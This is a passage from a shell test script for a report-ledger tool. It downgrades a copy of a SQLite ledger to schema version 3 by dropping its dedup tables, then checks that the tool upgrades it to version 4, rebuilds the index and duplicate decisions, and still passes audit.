db = sqlite3.connect(sys.argv[1])
for t in ("dedup_postings", "dedup_terms", "dedup_files", "dedup_docs"):
    db.execute("DROP TABLE " + t)
db.execute("PRAGMA user_version = 3")
db.commit()
PY
check "the copy is a version-3 ledger without the index" \
    [ "$(ledger "$WORK/v3" "PRAGMA user_version")/$(ledger "$WORK/v3" "SELECT count(*) FROM sqlite_schema WHERE name LIKE 'dedup%'")" = "3/0" ]
av "$WORK/v3" list
check "a version-3 ledger opens, upgraded to 4" \
    exit0 [ "$(ledger "$WORK/v3" "PRAGMA user_version")" = 4 ]
check "the index is rebuilt from the events as it was" \
    [ "$(ledger "$WORK/v3" "SELECT count(*) || ' ' || sum(df) FROM dedup_terms")/$(count "$WORK/v3" dedup_postings)/$(count "$WORK/v3" dedup_files)" = \
      "$(ledger "$V" "SELECT count(*) || ' ' || sum(df) FROM dedup_terms")/$(count "$V" dedup_postings)/$(count "$V" dedup_files)" ]
check "the decisions are rebuilt" \
    [ "$(ledger "$WORK/v3" "SELECT group_concat(id || ':' || coalesce(duplicate_of, '-'), ',') FROM (SELECT * FROM reports ORDER BY id)")" = \
      "$(ledger "$V" "SELECT group_concat(id || ':' || coalesce(duplicate_of, '-'), ',') FROM (SELECT * FROM reports ORDER BY id)")" ]
check "audit passes after the upgrade" audit_ok "$WORK/v3"
av "$WORK/v3" dups e5e5e5e5 --json
check "dups works after the upgrade" \
    exit0 json_check "$WORK/out" 'd[0]["report"] == "'$A'" and d[0]["score"] >= 0.99'

check "audit passes at the end" audit_ok "$V"

done_testing
